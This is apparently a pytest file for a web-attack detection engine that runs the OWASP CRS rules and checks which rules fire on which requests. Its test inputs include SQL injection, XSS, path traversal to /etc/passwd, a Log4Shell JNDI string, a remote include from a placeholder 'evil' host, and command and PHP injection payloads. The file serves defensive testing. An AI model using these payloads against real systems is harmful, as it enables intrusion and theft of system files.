"""The OWASP CRS engine: the vendored rules parse, known payloads fire the rules CRS means for them,
look-alike normal requests fire nothing at PL1, and no input can make `match` raise or run long."""

from __future__ import annotations

import re
import time
from collections import Counter

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from secmon.core.classify import crs
from secmon.core.classify.crs import CrsRuleSet
from secmon.core.classify.request import Request
from secmon.producer.generate import Mix, plan

CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
)


@pytest.fixture(scope="module")
def pl1() -> CrsRuleSet:
    return CrsRuleSet.load()


def fired(rules: CrsRuleSet, url: str, agent: str | None = CHROME, referer: str | None = None) -> frozenset[str]:
    return rules.match(Request("GET", url, agent, referer))


def test_the_committed_report_is_the_one_the_rules_give():
    assert crs.REPORT_PATH.read_text(encoding="utf-8") == crs.report_text(), (
        "crs.report.txt is stale: run python -m secmon.core.classify.crs"
    )


def test_every_rule_in_the_files_is_either_loaded_or_listed_with_a_reason():
    ids_in_files = set()
    for path in crs.rule_files():
        lines = path.read_text(encoding="latin-1").splitlines()
        ids_in_files.update(
            re.findall(r'[\s",]id:(\d+)', "\n".join(x for x in lines if not x.lstrip().startswith("#")))
        )
    rules = CrsRuleSet.load(paranoia=4)
    loaded = {rule.id for rule in rules.loaded + rules.switches}
    not_loaded = {rule_id for rule_id, _ in rules.not_loaded}
    assert loaded | not_loaded == ids_in_files
    assert not loaded & not_loaded
    assert all(reason for _, reason in rules.not_loaded)


def test_each_family_an_access_log_can_show_has_rules_at_pl1(pl1):
    families = Counter(rule.family for rule in pl1.loaded)
    expected = set(crs.FAMILY_BY_FILE.values()) | set(crs.FAMILY_BY_ID.values())
    assert set(families) == expected, families
    assert families["sqli"] >= 15 and families["xss"] >= 15 and families["command_injection"] >= 10


def test_the_families_follow_the_files_and_the_exceptions(pl1):
    family = {rule.id: rule.family for rule in CrsRuleSet.load(paranoia=4).loaded}
    assert family["942100"] == "sqli" and family["941100"] == "xss" and family["930120"] == "path_traversal"
    assert family["921200"] == "ldap" and family["934100"] == "node" and family["934110"] == "ssrf"


def test_anomaly_evaluation_and_initialisation_are_not_loaded(pl1):
    reasons = dict(CrsRuleSet.load(paranoia=4).not_loaded)
    assert reasons["949110"] == "anomaly-score evaluation"
    assert reasons["901100"].startswith("initialisation")
    assert "REQUEST_HEADERS:Content-Type" in reasons["920470"]


def test_a_higher_paranoia_level_adds_rules_and_keeps_the_lower_ones(pl1):
    pl2 = CrsRuleSet.load(paranoia=2)
    assert {r.id for r in pl1.loaded} < {r.id for r in pl2.loaded}
    assert all(rule.paranoia == 1 for rule in pl1.loaded)
    assert {rule.paranoia for rule in pl2.loaded} == {1, 2}
    # 942130 is tagged paranoia-level/2: silent at PL1, fires at PL2
    assert "942130" not in fired(pl1, "/?a=1%27%20or%20x%3Dx")
    assert "942130" in fired(pl2, "/?a=1%27%20or%20x%3Dx")


def test_a_switch_rule_spares_the_xss_rules_a_path_of_safe_bytes(pl1):
    # 941010: a REQUEST_FILENAME of letters, digits, - . / _ only is removed from the rules tagged xss-perf-disable.
    switch = next(rule for rule in pl1.switches if rule.id == "941010")
    assert switch.switches_off == (("xss-perf-disable", "REQUEST_FILENAME"),)
    assert "941180" not in fired(pl1, "/a/document.cookie")  # safe bytes: the path is not read
    assert "941180" in fired(pl1, "/a/document.cookie%3B")  # one unsafe byte: it is
    assert "941180" in pl1.match_each(Request("GET", "/a/document.cookie%3B", CHROME))


def test_multimatch_tests_every_stage_of_the_chain(pl1):
    # 930110 runs urlDecodeUni then cmdLine, which deletes backslashes: only the stage between sees ..\\..\\
    assert "930110" in fired(pl1, "/..%5C..%5Cwindows%5Cwin.ini")
    rule = next(r for r in pl1.loaded if r.id == "930110")
    assert rule.links[0].multi_match


def test_phase_2_rules_see_the_path_apache_decoded_once(pl1):
    # 942160 decodes once itself: a twice-encoded sleep() in the path needs Apache's decoding first
    assert "942160" in fired(pl1, "/%2527%252F%252A%252A%252FsLeEp%25285%2529%2523")


def test_a_chain_fires_only_when_every_link_matches():
    # 942130 captures both sides of a comparison, and its chain link requires them equal (TX:1 @streq %{TX.2}).
    pl2 = CrsRuleSet.load(paranoia=2)
    assert "942130" in fired(pl2, "/?a=1%27%20or%20x%3Dx")
    assert "942130" not in fired(pl2, "/?a=1%27%20or%20x%3Dy")


@pytest.mark.parametrize(
    ("url", "agent", "referer", "expected"),
    [
        ("/?id=%27%20or%20%271%27%3D%271", CHROME, None, {"942100"}),  # libinjection
        ("/?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", CHROME, None, {"941100", "941110"}),
        ("/?file=/etc/passwd", CHROME, None, {"930120"}),
        ("/", "${jndi:ldap://x}", None, {"944150"}),  # Log4Shell in the User-Agent
        ("/", CHROME, "https://x.example/<script>alert(1)</script>", {"941110"}),  # in the Referer
        ("/?page=http://evil.example/shell.txt?", CHROME, None, {"931120"}),
        ("/?x=%0d%0aSet-Cookie:%20a=b", CHROME, None, {"921160"}),
        ("/", "sqlmap/1.7", None, {"913100"}),
    ],
)
def test_known_payloads_fire_the_rules_crs_means_for_them(pl1, url, agent, referer, expected):
    assert expected <= fired(pl1, url, agent, referer)


@pytest.mark.parametrize(
    ("url", "prefix"),
    [
        ("/?cmd=;cat%20/etc/passwd", "932"),
        ("/?a=%3C%3Fphp%20system(%27id%27);%20%3F%3E", "933"),
        ("/?__proto__[admin]=1", "934"),
    ],
)
def test_payloads_fire_their_family(pl1, url, prefix):
    assert any(rule_id.startswith(prefix) for rule_id in fired(pl1, url))


@pytest.mark.parametrize(
    "url",
    [
        "/search?q=union+station",
        "/wp-login.php?action=register",
        "/?p=123&replytocom=45",
        "/index.php?title=Special:Search&search=select+a+theme",
        "/blog/2024/05/how-to-drop-a-table-from-your-diet/",
        "/products?sort=price&order=desc&page=2",
    ],
)
def test_look_alike_normal_requests_fire_nothing_at_pl1(pl1, url):
    assert fired(pl1, url, CHROME, "https://www.google.com/") == frozenset()


def test_the_producers_normal_clients_fire_nothing_at_pl1(pl1):
    traffic = plan(Mix(rate=100, seed=5, attacks_per_scenario=1), 1_706_184_000_000, 2 * 60_000)
    attackers = {label.attacker_ip for label in traffic.labels}
    normal = [e for e in traffic.events() if e.ip_address not in attackers]
    assert len(normal) > 1000
    flagged = [e.url for e in normal if pl1.match(Request(e.http_method, e.url, e.user_agent, e.referrer))]
    assert flagged == []


def test_the_sets_give_what_the_rules_give_one_by_one():
    rules = CrsRuleSet.parse(paranoia=2)
    traffic = plan(Mix(rate=50, seed=7, attacks_per_scenario=3), 1_706_184_000_000, 2 * 60_000)
    attackers = {label.attacker_ip for label in traffic.labels}
    events = list(traffic.events())
    chosen = [e for e in events if e.ip_address in attackers][:400] + events[:400]
    requests = [Request(e.http_method, e.url, e.user_agent, e.referrer) for e in chosen]
    assert any(rules.match(request) for request in requests)
    assert [rules.match(r) for r in requests] == [rules.match_each(r) for r in requests]
    remembering = CrsRuleSet.parse(paranoia=2, memo_limit=50)  # a memo kept across requests, often emptied
    assert [remembering.match(r) for r in requests + requests] == [rules.match(r) for r in requests + requests]


def test_variables_are_filled_as_modsecurity_fills_them():
    phases = crs.request_variables(Request("GET", "/a%20b/c.php?x=%27+1&y&=z", "UA", None))
    sent = phases[1]  # phase 1: the path as sent
    assert sent["REQUEST_URI"] == [("", "/a%20b/c.php?x=%27+1&y&=z")]
    assert sent["REQUEST_FILENAME"] == [("", "/a%20b/c.php")]
    assert sent["REQUEST_BASENAME"] == [("", "c.php")]
    assert sent["QUERY_STRING"] == [("", "x=%27+1&y&=z")]
    assert sent["ARGS"] == [("x", "' 1"), ("y", ""), ("", "z")]  # decoded, + is a space
    assert sent["REQUEST_HEADERS"] == [("User-Agent", "UA")]
    decoded = phases[2]  # phase 2: the path as Apache decoded it in place; the query stays as sent
    assert decoded["REQUEST_FILENAME"] == [("", "/a b/c.php")]
    assert decoded["REQUEST_URI"] == [("", "/a b/c.php?x=%27+1&y&=z")]
    assert decoded["ARGS"] == sent["ARGS"]
    assert crs.request_variables(Request("GET", "/x"))[1]["QUERY_STRING"] == []
    proxied = crs.request_variables(Request("GET", "http://example.com/a?b=1"))[2]
    assert proxied["REQUEST_FILENAME"] == [("", "/a")] and proxied["REQUEST_URI"] == [("", "/a?b=1")]
    assert proxied["REQUEST_URI_RAW"] == [("", "http://example.com/a?b=1")]
    assert crs.request_variables(Request("GET", "/a/b\\c.asp"))[1]["REQUEST_BASENAME"] == [("", "c.asp")]


@pytest.mark.parametrize(
    ("sent", "decoded"),
    [
        ("/a/%2e%2e/b", "/b"),  # unreserved escapes decoded first, then dot segments go
        ("//a//b/./c/..", "/a/b/"),  # slashes merged
        ("/%3Csvg++x%3E", "/<svg++x>"),  # + is not a space in a path
        ("/%25%32%37", "/%27"),  # one decoding (after the unreserved ones)
        ("/a/%2F/b", "/a/%2F/b"),  # Apache refuses these; from a log they stay as sent
    ],
)
def test_the_phase_2_path_is_decoded_as_apache_decodes_it(sent, decoded):
    assert crs.apache_path(sent) == decoded


def test_targets_parse_with_exclusions_counts_and_regex_keys():
    targets = crs.parse_targets("ARGS|!ARGS:foo|&ARGS|ARGS_NAMES:/^a|b$/|REQUEST_HEADERS:User-Agent")
    assert [str(t) for t in targets] == [
        "ARGS",
        "!ARGS:foo",
        "&ARGS",
        "ARGS_NAMES:/^a|b$/",
        "REQUEST_HEADERS:User-Agent",
    ]
    link = crs.Link(targets, "rx", "x", False, (), False, ())
    assert link.reads("ARGS", "bar") and not link.reads("ARGS", "FOO")  # names compare case-insensitively


def test_a_10kb_value_costs_under_25_ms_for_the_whole_rule_set():
    hostile = "/?q=" + ("%3Cscript%3E%u0027/**/union\\x41&#x3c;../" * 300)[:10_000]
    for rules in (CrsRuleSet.parse(paranoia=1), CrsRuleSet.parse(paranoia=4)):  # no memo across requests
        for request in (Request("GET", hostile), Request("GET", "/" + "a" * 10_000, "b" * 10_000, "c" * 10_000)):
            rules.match(request)
            best = min(timed(rules.match, request) for _ in range(3))
            assert best < 0.025, f"{best * 1000:.1f} ms"


def timed(function, argument) -> float:
    start = time.perf_counter()
    function(argument)
    return time.perf_counter() - start


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(url=st.text(max_size=400), agent=st.none() | st.text(max_size=200), referer=st.none() | st.text(max_size=200))
def test_match_takes_any_text_and_returns_in_bounded_time(url, agent, referer):
    rules = CrsRuleSet.load(paranoia=4)
    start = time.perf_counter()
    result = rules.match(Request("GET", url, agent, referer))
    assert time.perf_counter() - start < 0.25
    assert isinstance(result, frozenset) and all(rule_id.isdigit() for rule_id in result)
    assert result == rules.match_each(Request("GET", url, agent, referer))  # the sets change nothing


PAYLOAD_PIECES = [
    "'",
    '"',
    "<",
    ">",
    "%",
    "%27",
    "%u0027",
    "&#x3c;",
    "\\x41",
    "/*",
    "*/",
    "--",
    "#",
    ";",
    "|",
    "`",
    "$(",
    "${",
    "../",
    "..\\",
    "/etc/passwd",
    "union",
    "select",
    "or",
    "1=1",
    "script",
    "alert(",
    "onerror=",
    "php",
    "<?",
    "cat",
    "jndi:",
    "__proto__",
    "=",
    "&",
    "+",
    " ",
    "\n",
    "\r\n",
    "\0",
    "é",
    "\xff",
]


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PAYLOAD_PIECES), max_size=30), st.lists(st.sampled_from(PAYLOAD_PIECES), max_size=10))
def test_the_sets_agree_with_each_rule_on_payload_shaped_text(query, agent):
    rules = CrsRuleSet.load(paranoia=4)
    request = Request("GET", "/p?q=" + "".join(query), "".join(agent) or None, "https://x/" + "".join(agent))
    assert rules.match(request) == rules.match_each(request)


def chain_evaluation(evaluation: crs.Evaluation, rule: crs.Rule) -> bool:
    """A rule evaluated link by link through ChainState, as a chain is: the reference for the one-link path."""
    state = crs.ChainState(variables=evaluation.variables[rule.phase])
    return all(evaluation.link_matches(link, state) for link in rule.links)


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    url=st.tuples(st.sampled_from(["/", "/a.php?id=", "/x?q=", "/etc/passwd?f="]), st.text(max_size=120)).map("".join),
    agent=st.none() | st.text(max_size=80),
)
def test_the_one_link_path_agrees_with_the_chain_evaluation(url, agent):
    rules = CrsRuleSet.load(paranoia=4)
    for request in (Request("GET", url, agent), Request("GET", "/s?q=" + url.replace("&", "%26"), agent, url)):
        evaluation = crs.Evaluation(request)
        for rule in rules.loaded:
            if rule.one_link_on_values:
                assert evaluation.rule_matches(rule) == chain_evaluation(evaluation, rule), (rule.id, request)
